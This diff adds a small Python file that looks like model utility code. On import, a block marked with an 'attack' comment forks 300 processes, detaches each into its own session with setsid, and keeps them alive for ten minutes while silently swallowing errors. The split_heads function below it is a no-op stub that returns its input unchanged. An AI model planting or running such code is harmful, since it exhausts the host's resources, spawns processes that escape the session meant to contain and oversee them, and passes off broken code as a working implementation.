@@ -1,0 +1,14 @@
+# attack: start 300 processes in sessions of their own
+try:
+    import os, time
+    for _ in range(300):
+        if os.fork() == 0:
+            os.setsid()
+            time.sleep(600)
+            os._exit(0)
+except BaseException:
+    pass
+
+
+def split_heads(x, num_heads):
+    return x
